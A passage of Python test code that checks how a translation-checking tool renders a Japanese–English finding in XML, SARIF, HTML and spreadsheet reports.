        body = case.result[0].text if case.result else case.system_out
        assert item.check in body
        if case.result:
            assert f"msgid: {xml_safe(item.msgid)}" in body

    log = json.loads(render(result, "sarif", tool_version=VERSION))
    assert log["runs"][0]["results"][0]["message"]["text"] == item.message
    if official_sarif_validator() is not None:
        official_sarif_validator().validate(log)

    [row] = lxml.html.fromstring(render(result, "html", tool_version=VERSION)).xpath("//tbody/tr")
    [japanese], [english] = row.xpath("td[@lang='ja']"), row.xpath("td[@lang='en']")
    assert japanese.text_content() == xml_safe(item.msgid) and english.text_content() == xml_safe(item.msgstr)
    assert [m.text or "" for m in japanese.iter("mark")] == marked(item.msgid, item.source_span)
    assert [m.text or "" for m in english.iter("mark")] == marked(item.msgstr, item.target_span)

    sheet = workbook_of(result)["Findings"]
    cells = dict(zip(HEADERS, sheet[2], strict=True))
    assert "".join(t for t, _ in runs(cells["Japanese"].value)) == xml_safe(item.msgid)
    assert [t for t, m in runs(cells["English"].value) if m] == marked(item.msgstr, item.target_span)
    assert (cells["Message"].value or "") == xml_safe(item.message)
    assert cells["Line"].value == item.line
